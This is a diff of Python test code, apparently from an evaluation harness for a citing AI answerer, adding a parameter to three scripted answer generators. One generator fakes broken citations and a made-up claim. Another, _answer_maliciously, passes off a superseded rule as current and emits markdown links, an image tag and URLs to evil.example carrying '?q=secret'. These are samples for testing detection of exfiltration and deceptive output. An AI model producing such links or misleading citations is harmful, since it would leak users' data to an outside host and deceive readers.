@@ -272,9 +272,9 @@ async def _evaluate_model(name: str, logs: Logs, records: Sequence[LogRecord]) -
 
 
 async def _answer_well(
-    findings: Findings, system: str, messages: object, tools: object
+    findings: Findings, system: str, messages: object, tools: object, said: str
 ) -> AsyncGenerator[str | Written]:
-    del system, messages, tools
+    del system, messages, tools, said
     sentence = findings.sources[0].passage.text.strip().splitlines()[0]
     for word in f"{sentence} [1] and [2].".split(" "):
         yield f"{word} "
@@ -282,9 +282,9 @@ async def _answer_well(
 
 
 async def _answer_badly(
-    findings: Findings, system: str, messages: object, tools: object
+    findings: Findings, system: str, messages: object, tools: object, said: str
 ) -> AsyncGenerator[str | Written]:
-    del system, messages, findings, tools
+    del system, messages, findings, tools, said
     told = "\u201cthese words stand in no record of anybody\u201d, since 48213 boats of Zanzibarovia sail"
     for piece in ("It is so [9", "9], they say [0] [1", f"23], and {told}. Also [3] [1]."):
         yield piece
@@ -292,10 +292,10 @@ async def _answer_badly(
 
 
 async def _answer_maliciously(
-    findings: Findings, system: str, messages: object, tools: object
+    findings: Findings, system: str, messages: object, tools: object, said: str
 ) -> AsyncGenerator[str | Written]:
     """Give the oldest rule as the current one, with links that would carry words away."""
-    del system, messages, tools
+    del system, messages, tools, said
     old = next((at for at, one in enumerate(findings.sources, 1) if one.record.status == "superseded"), 1)
     yield f"The current rule, without any successor, is [{old}](http://evil.example/?q=secret) and [99](http://x). "
     yield "![p](https://evil.example/p.png?q=secret) <img src=https://evil.example/i> https://evil.example/?q=secret "
